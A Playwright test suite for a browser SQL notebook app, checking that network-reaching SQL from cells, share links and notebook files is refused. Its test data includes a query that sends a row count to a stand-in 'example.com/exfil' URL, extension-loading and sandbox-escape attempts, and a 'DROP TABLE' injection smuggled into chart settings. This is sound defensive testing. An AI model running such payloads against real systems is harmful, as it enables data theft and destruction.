/**
 * Nothing leaves without consent. Chromium routes every host but the app's own to a catcher
 * (support/catcher.ts), which counts every connection, HTTP or TLS: SQL that tries to reach the
 * network, typed in a cell, from a share link and from a notebook file, must make none, say why,
 * and leave DuckDB answering. Remote data allowed for one host reaches that host only.
 */
import { writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test, type Locator, type Page } from '@playwright/test';
import { createCell } from '../../src/notebook/cells';
import { serializeNotebook } from '../../src/notebook/format';
import { notebookFromCells } from '../../src/notebook/operations';
import { shareLink } from '../../src/notebook/share';
import { CATCHER_CSV, catcherPort, routedToCatcher, startCatcher, type Catcher } from './support/catcher';
import {
  addSqlCell,
  allCells,
  answer,
  cell,
  expectStatus,
  notifications,
  openApp,
  resultValue,
  runCell,
  setCellText,
  sidebar,
} from './helpers';

test.use({ launchOptions: routedToCatcher(catcherPort()) });

let catcher: Catcher;
test.beforeAll(async () => {
  catcher = await startCatcher();
});
test.afterAll(async () => {
  await catcher.close();
});
test.beforeEach(() => {
  catcher.hits.length = 0;
});

/** Every line of the issue's table, and what the cell must say instead of reaching the network. */
const HOSTILE: readonly (readonly [sql: string, says: RegExp])[] = [
  [
    "SELECT * FROM read_csv('https://example.com/x.csv')",
    /Remote access is off in this notebook.*https:\/\/example\.com/,
  ],
  ["ATTACH 'https://example.com/x.db' AS remote", /Remote access is off in this notebook.*https:\/\/example\.com/],
  [
    "COPY (SELECT 1 AS a) TO 'http://example.com/x.csv'",
    /Remote access is off in this notebook.*http:\/\/example\.com/,
  ],
  ['INSTALL httpfs', /DuckDB extensions are off in this notebook, so httpfs was not installed/],
  ['LOAD httpfs', /DuckDB extensions are off in this notebook/],
  ["SET custom_extension_repository = 'http://example.com';\nLOAD json", /DuckDB extensions are off in this notebook/],
  [
    "SET autoload_known_extensions = true;\nSELECT * FROM 'https://example.com/x.parquet'",
    /needs DuckDB's parquet extension/,
  ],
  [
    "SET VARIABLE u = (SELECT 'https://example.com/exfil?n=' || count(*) FROM trips);\nSELECT * FROM read_csv(getvariable('u'))",
    /Remote access is off in this notebook.*https:\/\/example\.com/,
  ],
  ['SET enable_external_access = true', /cannot be changed from SQL in this notebook/],
];

/** Every request the page and its workers make that is not to the app's own origin or local. */
function foreignRequests(page: Page): string[] {
  const own = new URL(test.info().project.use.baseURL ?? 'http://localhost').origin;
  const seen: string[] = [];
  page.context().on('request', (r) => {
    const url = new URL(r.url());
    if (url.protocol === 'data:' || url.protocol === 'blob:') return;
    if (url.origin !== own) seen.push(r.url());
  });
  return seen;
}

async function expectRefused(c: Locator, says: RegExp): Promise<void> {
  await expectStatus(c, 'error');
  const alert = c.getByRole('alert');
  await expect(alert).toContainText(says);
}

test('SQL that reaches for the network, typed in a cell, is refused before any request and DuckDB answers after', async ({
  page,
}) => {
  test.setTimeout(120_000);
  const foreign = foreignRequests(page);
  await openApp(page);
  const c = await addSqlCell(page);
  for (const [sql, says] of HOSTILE) {
    await setCellText(page, c, sql);
    await runCell(c, 'error');
    await expectRefused(c, says);
  }
  // The refusal says how to allow it.
  await setCellText(page, c, HOSTILE[0]![0]);
  await runCell(c, 'error');
  await expect(c.getByRole('alert')).toContainText('add it under Remote data in the sidebar');
  expect(await answer(page, 'SELECT 6 * 7 AS answer')).toBe('42');
  expect(catcher.appHits()).toEqual([]);
  expect(foreign).toEqual([]);
});

function hostileNotebook() {
  return notebookFromCells(
    'Hostile',
    HOSTILE.map(([sql], i) => createCell('sql', sql, 'duckdb', `hostile${i + 1}`)),
  );
}

async function runAllRefused(page: Page): Promise<void> {
  await expect(allCells(page)).toHaveCount(HOSTILE.length);
  // Opening ran nothing.
  for (let n = 1; n <= HOSTILE.length; n++) await expect(cell(page, n)).toHaveAttribute('data-status', 'idle');
  await page.getByRole('button', { name: 'Run all' }).click();
  for (let n = 1; n <= HOSTILE.length; n++) await expectRefused(cell(page, n), HOSTILE[n - 1]![1]);
}

test('the same SQL arriving in a share link is refused, and sends nothing', async ({ page }) => {
  test.setTimeout(120_000);
  const foreign = foreignRequests(page);
  await openApp(page);
  const link = await shareLink(hostileNotebook(), page.url());
  if (!link.ok) throw link.error;
  await page.goto(link.url);
  await expect(page.getByRole('textbox', { name: 'Notebook title' })).toHaveValue(/^Hostile/);
  await runAllRefused(page);
  expect(await answer(page, 'SELECT 6 * 7 AS answer')).toBe('42');
  expect(catcher.appHits()).toEqual([]);
  expect(foreign).toEqual([]);
});

test('the same SQL arriving in a notebook file is refused, and sends nothing', async ({ page }) => {
  test.setTimeout(120_000);
  const foreign = foreignRequests(page);
  await openApp(page);
  const path = join(tmpdir(), `hostile-${process.pid}.sql`);
  writeFileSync(path, serializeNotebook(hostileNotebook()));
  await page.evaluate(() => {
    delete (window as { showOpenFilePicker?: unknown }).showOpenFilePicker;
  });
  const chooser = page.waitForEvent('filechooser');
  await page.getByRole('button', { name: 'Notebook ▾' }).click();
  await page.getByRole('menuitem', { name: 'Open notebook file…' }).click();
  await (await chooser).setFiles(path);
  await expect(page.getByRole('textbox', { name: 'Notebook title' })).toHaveValue(/^Hostile/);
  await runAllRefused(page);
  expect(catcher.appHits()).toEqual([]);
  expect(foreign).toEqual([]);
});

test('a share link whose view settings carry SQL opens nothing and runs nothing', async ({ page }) => {
  await openApp(page);
  const nb = notebookFromCells('Sneaky', [createCell('sql', "SELECT 'a' AS k, 1 AS v", 'duckdb', 'visible')]);
  const id = nb.order[0]!;
  const sneaky = {
    ...nb,
    cells: {
      [id]: {
        ...nb.cells[id]!,
        view: { mode: 'chart', chart: { type: 'bar', x: 'k', aggregate: 'sum(v)) FROM trips; DROP TABLE trips; --' } },
      },
    },
  };
  // The app's own writer would never produce this: the link is built by hand, as an attacker would.
  const link = await shareLink(sneaky as unknown as typeof nb, page.url());
  if (!link.ok) throw link.error;
  await page.goto(link.url);
  await expect(notifications(page).getByRole('alert')).toContainText(
    /view settings of cell "visible" are not valid: chart\.aggregate: expected/,
  );
  await expect(page.getByRole('textbox', { name: 'Notebook title' })).not.toHaveValue(/Sneaky/);
  // trips is still there.
  expect(await answer(page, 'SELECT count(*) > 0 AS ok FROM trips')).toBe('true');
});

test('the page and its workers cannot fetch another origin: the Content-Security-Policy blocks it', async ({
  page,
}) => {
  await openApp(page);
  await expect(sidebar(page).getByRole('heading', { name: /DuckDB ready/ })).toBeVisible();
  const target = `http://127.0.0.1:${catcher.port}/csp-probe`;
  const attempt = (url: string) =>
    fetch(url).then(
      (r) => `status ${r.status}`,
      (e: unknown) => `blocked: ${e instanceof Error ? e.message : String(e)}`,
    );
  expect(await page.evaluate(attempt, target)).toMatch(/^blocked/);
  // A worker made from a blob: takes the page's policy.
  const fromBlob = await page.evaluate(async (url) => {
    const code = `fetch(${JSON.stringify(url)}).then(r => postMessage('status ' + r.status), e => postMessage('blocked: ' + e.message))`;
    const w = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
    return new Promise<string>((resolve) => (w.onmessage = (e) => resolve(String(e.data))));
  }, target);
  expect(fromBlob).toMatch(/^blocked/);
  // Workers loaded from a URL take the policy of their own response: the DuckDB worker and the others.
  await answer(page, 'SELECT 1 AS one', 'sqlite');
  const workers = page.workers();
  expect(workers.map((w) => new URL(w.url()).pathname)).toEqual(
    expect.arrayContaining(['/duckdb/worker.js', expect.stringMatching(/sqlite\.worker/)]),
  );
  for (const w of workers) expect(await w.evaluate(attempt, target), w.url()).toMatch(/^blocked/);
  expect(catcher.appHits()).toEqual([]);
});

test('remote data allowed for one host reads from it, and every other host stays blocked', async ({ page }) => {
  test.setTimeout(120_000);
  await openApp(page);
  const origin = `http://127.0.0.1:${catcher.port}`;
  const c = await addSqlCell(page);
  await setCellText(page, c, `SELECT * FROM read_csv('${origin}/data.csv') ORDER BY a`);
  await runCell(c, 'error');
  expect(catcher.appHits()).toEqual([]);

  const settings = page.getByRole('region', { name: 'Remote data' });
  await expect(settings).toContainText('Off: DuckDB reads only the files you open');
  await settings.getByRole('textbox', { name: 'Host to allow' }).fill('example..com');
  await settings.getByRole('button', { name: 'Allow host' }).click();
  await expect(settings.getByRole('alert')).toContainText('not a full host name');
  await settings.getByRole('textbox', { name: 'Host to allow' }).fill(origin);
  await settings.getByRole('button', { name: 'Allow host' }).click();
  await expect(settings.getByRole('list', { name: 'Allowed hosts' })).toContainText(origin);
  await expect(notifications(page).getByText(/DuckDB restarted and may now read data from/)).toBeVisible();

  await runCell(c, 'done');
  expect(await resultValue(c, 'a', 0)).toBe('1');
  expect(await resultValue(c, 'b', 1)).toBe('4');
  expect(CATCHER_CSV).toContain('3,4');
  const allowed = catcher.appHits().length;
  expect(allowed).toBeGreaterThan(0);
  expect(catcher.appHits().filter((h) => h.host !== `127.0.0.1:${catcher.port}`)).toEqual([]);

  // Other hosts stay blocked, by DuckDB and by the worker's policy alike.
  const other = await addSqlCell(page);
  await setCellText(page, other, "SELECT * FROM read_csv('https://example.com/x.csv')");
  await runCell(other, 'error');
  await expectRefused(other, /Remote access is off in this notebook.*https:\/\/example\.com/);
  expect(catcher.appHits().length).toBe(allowed);

  // Removing the host closes it again.
  await settings.getByRole('button', { name: `Stop allowing ${origin}` }).click();
  await expect(settings).toContainText('Off: DuckDB reads only the files you open');
  await runCell(c, 'error');
  expect(catcher.appHits().length).toBe(allowed);
});

test('a notebook that asks for hosts says so, and reaches them only once the user allows it', async ({ page }) => {
  test.setTimeout(120_000);
  await openApp(page);
  const origin = `http://127.0.0.1:${catcher.port}`;
  const asking = {
    ...notebookFromCells('Asks', [
      createCell('sql', `SELECT count(*) AS n FROM read_csv('${origin}/d.csv')`, 'duckdb', 'remote'),
    ]),
    network: { hosts: [origin], extensions: [] },
  };
  const link = await shareLink(asking, page.url());
  if (!link.ok) throw link.error;
  await page.goto(link.url);
  const request = page.getByRole('region', { name: 'Network request' });
  await expect(request).toContainText(`This notebook asks to read data from http://127.0.0.1:${catcher.port}`);
  await runCell(cell(page, 1), 'error');
  expect(catcher.appHits()).toEqual([]);
  await request.getByRole('button', { name: 'Allow for this notebook' }).click();
  await expect(request).toBeHidden();
  await runCell(cell(page, 1), 'done');
  expect(await resultValue(cell(page, 1), 'n')).toBe('2');
  expect(catcher.appHits().length).toBeGreaterThan(0);
  expect(catcher.appHits().filter((h) => h.host !== `127.0.0.1:${catcher.port}`)).toEqual([]);
});

test('DuckDB fetches its extensions only when the user chose to, and only from its extension host', async ({
  page,
}) => {
  test.setTimeout(120_000);
  await openApp(page);
  const c = await addSqlCell(page);
  await setCellText(page, c, 'LOAD json');
  await runCell(c, 'error');
  expect(catcher.appHits()).toEqual([]);
  const settings = page.getByRole('region', { name: 'Remote data' });
  await settings.getByRole('textbox', { name: /DuckDB extensions/ }).fill('json');
  await settings.getByRole('button', { name: 'Use extensions' }).click();
  // Here extensions.duckdb.org is the catcher, which cannot speak TLS: the load fails, and says so.
  await expect(notifications(page).getByText(/DuckDB could not load the extension json/)).toBeVisible({
    timeout: 45_000,
  });
  expect(catcher.appHits().length).toBeGreaterThan(0);
  // Every connection was to DuckDB's extension host.
  expect(catcher.appHits().filter((h) => h.host !== 'extensions.duckdb.org')).toEqual([]);
  expect(await answer(page, 'SELECT 6 * 7 AS answer')).toBe('42');
  // Asked for again, the allowed extension that could not be fetched is said to be missing, not "off", and nothing is sent.
  const hits = catcher.appHits().length;
  for (const sql of ['LOAD json', 'INSTALL json']) {
    await setCellText(page, c, sql);
    await runCell(c, 'error');
    await expect(c.getByRole('alert')).toContainText(
      'json is allowed in this notebook, but could not be fetched from extensions.duckdb.org when DuckDB started',
    );
  }
  expect(catcher.appHits().length).toBe(hits);
});

test('a Markdown image shows only once its host is allowed, fetched by DuckDB, never by the page', async ({ page }) => {
  test.setTimeout(120_000);
  const images: string[] = [];
  page
    .context()
    .on('request', (r) => r.resourceType() === 'image' && !/^(blob|data):/.test(r.url()) && images.push(r.url()));
  const foreign = foreignRequests(page);
  await openApp(page);
  const origin = `http://127.0.0.1:${catcher.port}`;
  const md = notebookFromCells('Pictures', [
    createCell('markdown', `A dot: ![the dot](${origin}/dot.png)`, 'duckdb', 'pic'),
  ]);
  const link = await shareLink(md, page.url());
  if (!link.ok) throw link.error;
  await page.goto(link.url);
  const body = cell(page, 1).locator('.markdown-body');
  await expect(body).toContainText(
    `[image “the dot” from 127.0.0.1:${catcher.port} not loaded: remote content is off]`,
  );
  expect(catcher.appHits()).toEqual([]);
  const settings = page.getByRole('region', { name: 'Remote data' });
  await settings.getByRole('textbox', { name: 'Host to allow' }).fill(origin);
  await settings.getByRole('button', { name: 'Allow host' }).click();
  const img = body.getByRole('img', { name: 'the dot' });
  await expect(img).toBeVisible();
  expect(await img.getAttribute('src')).toMatch(/^blob:/);
  expect(await img.evaluate((el) => (el as HTMLImageElement).naturalWidth)).toBe(1);
  // DuckDB's worker fetched it from the allowed host, and nothing else; the page loaded no image from anywhere.
  expect(catcher.appHits().length).toBeGreaterThan(0);
  expect(catcher.appHits().filter((h) => h.host !== `127.0.0.1:${catcher.port}`)).toEqual([]);
  expect(new Set(foreign)).toEqual(new Set([`${origin}/dot.png`]));
  expect(images).toEqual([]);
});
